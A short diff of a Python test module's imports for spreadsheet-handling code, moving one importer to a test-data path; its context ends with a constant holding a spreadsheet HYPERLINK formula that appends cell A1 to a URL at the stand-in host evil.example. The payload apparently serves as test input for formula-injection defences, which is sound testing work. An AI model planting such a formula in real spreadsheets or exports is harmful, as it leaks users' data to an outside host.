@@ -13,7 +13,6 @@ from hypothesis import example, given
 from hypothesis import strategies as st
 
 from components.label_issues import Judged, write_label_issues
-from data.importers.tables import import_table
 from data.spans.corrections import read_corrections
 from data.spans.layout import find_spans
 from data.spans.served import read_served
@@ -23,6 +22,7 @@ from edgeline.prediction.inputs import Input
 from edgeline.tables.sheets import mark_cell, read_rows, unmark_cell, write_rows
 from pipeline.workloads import find_workload, with_features
 from runners.cli.main import main
+from tests.data.importers.named import import_table
 
 ROOT = Path(__file__).parents[2]
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open me")'
